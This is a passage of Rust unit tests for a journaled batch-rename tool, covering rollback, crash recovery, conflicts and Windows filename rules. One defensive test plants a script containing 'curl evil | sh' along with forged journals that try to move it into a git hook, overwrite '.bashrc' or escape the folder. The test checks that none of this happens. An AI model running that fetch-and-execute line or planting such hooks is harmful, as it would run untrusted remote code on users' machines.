        assert_eq!(code(&e), ErrorCode::Conflict);
        assert!(e.to_string().contains(&f.path("b").display().to_string()), "{e}");
        let plan = f.plan("rename_batch", pairs(&list));
        f.write("a2", "in the way");
        let e = f.apply("rename_batch", pairs(&list), &plan).unwrap_err();
        assert_eq!(code(&e), ErrorCode::Conflict);
        assert!(e.to_string().contains("a2"), "{e}");
        assert!(f.exists("a") && f.exists("b"), "nothing moved");
    }

    /// A batch with a cycle, a chain and a folder, and its two possible ends.
    type Names = Vec<(String, String)>;

    fn busy_fixture() -> (Fixture, RenameBatchInput, Names, Names) {
        let f = Fixture::new();
        for name in ["a", "b", "c", "d", "dir/e"] {
            f.write(name, format!("content of {name}"));
        }
        let list = [("a", "b"), ("b", "a"), ("c", "d"), ("d", "dir/d"), ("dir/e", "f")];
        let old = state(&f);
        let new = vec![
            ("a".to_string(), "content of b".to_string()),
            ("b".into(), "content of a".into()),
            ("d".into(), "content of c".into()),
            ("dir/d".into(), "content of d".into()),
            ("f".into(), "content of dir/e".into()),
        ];
        (f, input(&list), old, new)
    }

    #[test]
    fn a_failure_at_any_step_puts_every_name_back() {
        let steps = busy_fixture().1.renames.len() * 2;
        for fail_at in 0..steps {
            let (f, input, old, _) = busy_fixture();
            let cx = Context::new(&f.scope);
            let (_, staged) = examine(&cx, &input, false).unwrap();
            let e = run_batch(&cx, staged, &mut |step| {
                if step == fail_at {
                    Step::Fail(io::Error::new(
                        io::ErrorKind::PermissionDenied,
                        "locked by another program",
                    ))
                } else {
                    Step::Go
                }
            })
            .unwrap_err();
            assert_eq!(code(&e), ErrorCode::BatchFailed, "step {fail_at}: {e}");
            assert!(e.to_string().contains("every name is as it was"), "{e}");
            let details = e.to_body().details.unwrap();
            // Every item that left its old name came back to it.
            let left = fail_at.min(steps / 2);
            assert_eq!(details["moved_back"], left, "step {fail_at}: {details}");
            assert_eq!(details["failed"]["code"], "permission_denied");
            assert_eq!(state(&f), old, "step {fail_at}");
        }
    }

    #[test]
    fn a_crash_at_any_step_is_finished_or_rolled_back_on_recovery() {
        let steps = busy_fixture().1.renames.len() * 2;
        for crash_at in 0..=steps {
            let (f, input, old, new) = busy_fixture();
            let cx = Context::new(&f.scope);
            let (_, staged) = examine(&cx, &input, false).unwrap();
            let result = run_batch(&cx, staged, &mut |step| {
                if step == crash_at { Step::Crash } else { Step::Go }
            });
            if crash_at == steps {
                result.unwrap();
                assert_eq!(state(&f), new);
                assert!(recover_renames(&f.scope).is_empty(), "nothing to recover");
                continue;
            }
            assert_eq!(f.state_files().len(), 1, "the journal outlives a crash");
            assert!(!f.exists(RENAME_JOURNAL), "and is not in the folder");
            let recovered = recover_renames(&f.scope);
            assert_eq!(recovered.len(), 1);
            assert_eq!(recovered[0].items, 5);
            assert_eq!(
                recovered[0].outcome,
                RecoveryOutcome::RolledBack {
                    moved_back: crash_at.min(steps / 2)
                },
                "step {crash_at}"
            );
            assert!(
                recovered[0]
                    .to_string()
                    .contains("every entry has its old name again")
            );
            assert_eq!(state(&f), old, "step {crash_at}");
        }
    }

    /// The journal a batch of `pairs` in `f` would have, as the device writes it.
    fn journal_of(
        f: &Fixture,
        batch: &str,
        pairs: &[(&str, &str)],
        id_at: impl Fn(&str, &str) -> String,
    ) -> Journal {
        Journal {
            version: journal::JOURNAL_VERSION,
            root: f.root(),
            batch: batch.into(),
            items: pairs
                .iter()
                .enumerate()
                .map(|(n, (from, to))| JournalItem {
                    from: from.into(),
                    to: to.into(),
                    temp: temp_for(Path::new(from), batch, n),
                    id: id_at(from, to),
                })
                .collect(),
        }
    }

    fn id(f: &Fixture, rel: &str) -> String {
        id_of(&f.scope.roots()[0].dir().symlink_metadata(rel).unwrap())
    }

    fn store(f: &Fixture, journal: &Journal) -> PathBuf {
        let path = journal_path(&f.scope, &f.root(), &journal.batch).unwrap();
        write_journal(&path, journal).unwrap();
        path
    }

    #[test]
    fn recovery_finishes_a_batch_whose_items_all_arrived() {
        let (f, input, _, new) = busy_fixture();
        let cx = Context::new(&f.scope);
        let (_, staged) = examine(&cx, &input, false).unwrap();
        run_batch(&cx, staged, &mut |_| Step::Go).unwrap();
        // Crash between the last rename and removing the journal.
        let list: Vec<(&str, &str)> = input
            .renames
            .iter()
            .map(|p| (p.from.as_str(), p.to.as_str()))
            .collect();
        store(&f, &journal_of(&f, "00c0feed", &list, |_, to| id(&f, to)));
        let recovered = recover_renames(&f.scope);
        assert_eq!(recovered[0].outcome, RecoveryOutcome::Completed);
        assert_eq!(state(&f), new);
        assert_eq!(f.state_files(), Vec::<PathBuf>::new());
        // A journal cut short by a crash while it was written never got its
        // name: its batch had not started, and it is cleared away.
        let dir = journal_path(&f.scope, &f.root(), "0badf00d").unwrap();
        std::fs::create_dir_all(dir.parent().unwrap()).unwrap();
        std::fs::write(
            dir.with_extension("partial"),
            "{\"version\":2,\"batch\":\"x\",\"it",
        )
        .unwrap();
        assert_eq!(recover_renames(&f.scope), []);
        assert_eq!(f.state_files(), Vec::<PathBuf>::new());
        assert_eq!(state(&f), new);
    }

    /// Journals written by someone other than the device, in the folder it
    /// shares (a cloned repository, a synced folder) or in its own state
    /// folder: none of them moves anything, each is reported, none blocks a
    /// new batch.
    #[cfg(unix)]
    #[test]
    fn planted_journals_move_nothing() {
        let f = Fixture::new();
        let outside = tempfile::tempdir().unwrap();
        f.write("tools/fmt.sh", "#!/bin/sh\ncurl evil | sh\n");
        f.write(".git/hooks/pre-commit.sample", "sample");
        f.write(
            ".fusion-rename-0000abcd-0",
            "looks like the device's own temporary name",
        );
        f.write(".bashrc", "mine");
        let victims = [
            ("tools/fmt.sh", ".git/hooks/post-checkout"),
            (".fusion-rename-0000abcd-0", ".bashrc"),
            (".bashrc", "../../outside"),
        ];
        // Version 1, as earlier devices wrote it, in the folder itself.
        let planted = serde_json::json!({
            "version": 1,
            "batch": "0000abcd",
            "items": victims.iter().map(|(temp, from)| serde_json::json!({
                "from": from, "to": "x", "temp": temp, "id": "0:0",
            })).collect::<Vec<_>>(),
        });
        f.write(RENAME_JOURNAL, planted.to_string());
        let before = f.snapshot();
        for recovered in [check_renames(&f.scope), recover_renames(&f.scope)] {
            assert_eq!(recovered.len(), 1, "{recovered:?}");
            assert!(
                matches!(&recovered[0].outcome, RecoveryOutcome::Ignored { journal, .. } if journal.ends_with(RENAME_JOURNAL)),
                "{recovered:?}"
            );
            assert!(
                recovered[0].to_string().contains("no file was moved"),
                "{}",
                recovered[0]
            );
        }
        assert_eq!(
            f.snapshot(),
            before,
            "nothing moved, the planted file is left alone"
        );

        // In the device's state folder, with the real file ids: temporary
        // names the device would not generate, paths that climb or are
        // absolute, another folder, a name that is not the batch's.
        let hook_id = id(&f, "tools/fmt.sh");
        let cases: Vec<(&str, Journal)> = vec![
            ("temp not generated", {
                let mut j = journal_of(&f, "0000abcd", &[(".git/hooks/post-checkout", "x")], |_, _| {
                    hook_id.clone()
                });
                j.items[0].temp = "tools/fmt.sh".into();
                j
            }),
            (
                "climbs out",
                journal_of(&f, "0000abcd", &[("../outside/x", "x")], |_, _| hook_id.clone()),
            ),
            (
                "absolute",
                journal_of(
                    &f,
                    "0000abcd",
                    &[(outside.path().join("x").to_str().unwrap(), "x")],
                    |_, _| hook_id.clone(),
                ),
            ),
            ("another root", {
                let mut j = journal_of(&f, "0000abcd", &[(".bashrc", "x")], |_, _| hook_id.clone());
                j.root = outside.path().to_path_buf();
                j
            }),
            (
                "bad batch id",
                journal_of(&f, "../../x", &[(".bashrc", "x")], |_, _| hook_id.clone()),
            ),
        ];
        for (what, journal) in cases {
            let path = journal_path(&f.scope, &f.root(), "0000abcd").unwrap();
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, serde_json::to_vec(&journal).unwrap()).unwrap();
            let recovered = recover_renames(&f.scope);
            let ignored: Vec<_> = recovered
                .iter()
                .filter(
                    |r| matches!(&r.outcome, RecoveryOutcome::Ignored { journal, .. } if *journal == path),
                )
                .collect();
            assert_eq!(ignored.len(), 1, "{what}: {recovered:?}");
            assert_eq!(f.snapshot(), before, "{what}: nothing moved");
            assert!(path.exists(), "{what}: left alone");
            // It never blocks a new batch.
            f.plan("rename_batch", pairs(&[("tools/fmt.sh", "tools/fmt2.sh")]));
            std::fs::remove_file(&path).unwrap();
        }
        assert!(!outside.path().join("x").exists());
    }

    /// A journal of the device's whose temporary name now holds another
    /// file (put there after the crash) moves nothing into place.
    #[test]
    fn recovery_moves_only_the_entries_it_recorded() {
        let f = Fixture::new();
        f.write("a", "a");
        f.write("dir/b", "b");
        let journal = journal_of(&f, "1234abcd", &[("a", "c"), ("dir/b", "dir/d")], |from, _| {
            format!("{}-moved", id(&f, from))
        });
        // Someone else's file sits at each temporary name.
        std::fs::rename(f.path("a"), f.root().join(&journal.items[0].temp)).unwrap();
        std::fs::rename(f.path("dir/b"), f.root().join(&journal.items[1].temp)).unwrap();
        let before = f.snapshot();
        store(&f, &journal);
        let recovered = recover_renames(&f.scope);
        assert!(
            matches!(&recovered[0].outcome, RecoveryOutcome::Unresolved { stuck } if stuck.len() == 2),
            "{recovered:?}"
        );
        assert_eq!(f.snapshot(), before);
    }

    #[test]
    fn toolbox_mode_errors_and_bounds() {
        let f = Fixture::new();
        let e = f
            .call("rename_batch", Mode::Run, pairs(&[("a", "b")]), None)
            .unwrap_err();
        assert_eq!(code(&e), ErrorCode::InvalidInput);
        let e = f.plan_err("rename_batch", json!({ "renames": [] }));
        assert!(e.to_string().contains("at least one"), "{e}");
        let many: Vec<Value> = (0..=MAX_BATCH)
            .map(|i| json!({ "from": i.to_string(), "to": "x" }))
            .collect();
        let e = f.plan_err("rename_batch", json!({ "renames": many }));
        assert!(e.to_string().contains("split it"), "{e}");
        let e = f.plan_err("rename_batch", json!({ "renames": [{ "from": "a" }] }));
        assert!(e.to_string().contains("renames[0]"), "{e}");
    }

    /// Windows (and Wine) volumes are case-insensitive: the new spelling
    /// finds the source itself, and the rename goes through a temporary name.
    #[cfg(windows)]
    #[test]
    fn case_only_renames_work_on_a_case_insensitive_volume() {
        let f = Fixture::new();
        f.write("Scan.E57", "s");
        let list = [("Scan.E57", "scan.e57")];
        let plan = f.plan("rename_batch", pairs(&list));
        let out = f.apply("rename_batch", pairs(&list), &plan).unwrap();
        assert_eq!(out["case_only"], 1);
        let names: Vec<_> = std::fs::read_dir(f.root())
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect();
        assert_eq!(names, ["scan.e57"]);
    }

    /// A file another program holds open without delete sharing cannot be
    /// renamed on Windows: the batch stops there and undoes what it did.
    #[cfg(windows)]
    #[test]
    fn a_file_locked_by_another_program_rolls_the_batch_back() {
        use std::os::windows::fs::OpenOptionsExt as _;
        let f = Fixture::new();
        for name in ["a", "b", "c"] {
            f.write(name, name);
        }
        let before = state(&f);
        let list = [("a", "a2"), ("b", "b2"), ("c", "c2")];
        let plan = f.plan("rename_batch", pairs(&list));
        let lock = std::fs::OpenOptions::new()
            .read(true)
            .share_mode(0)
            .open(f.path("b"))
            .unwrap();
        let e = f.apply("rename_batch", pairs(&list), &plan).unwrap_err();
        drop(lock);
        assert_eq!(code(&e), ErrorCode::BatchFailed, "{e}");
        let details = e.to_body().details.unwrap();
        assert_eq!(details["failed"]["index"], 1, "{details}");
        assert_eq!(details["moved_back"], 1, "{details}");
        assert_eq!(state(&f), before);
    }

    #[test]
    fn windows_names() {
        for bad in [
            "CON",
            "nul.txt",
            "a:b",
            "x*",
            "q?",
            "a\"b",
            "<",
            ">",
            "|",
            "tab\there",
            "dot.",
            "space ",
        ] {
            assert!(windows_name_problem(bad).is_some(), "{bad:?}");
        }
        for good in ["2026-11-03_north_001.e57", "Scan 1.e57", "COM0", "console.las"] {
            assert_eq!(windows_name_problem(good), None, "{good:?}");
        }
    }
}
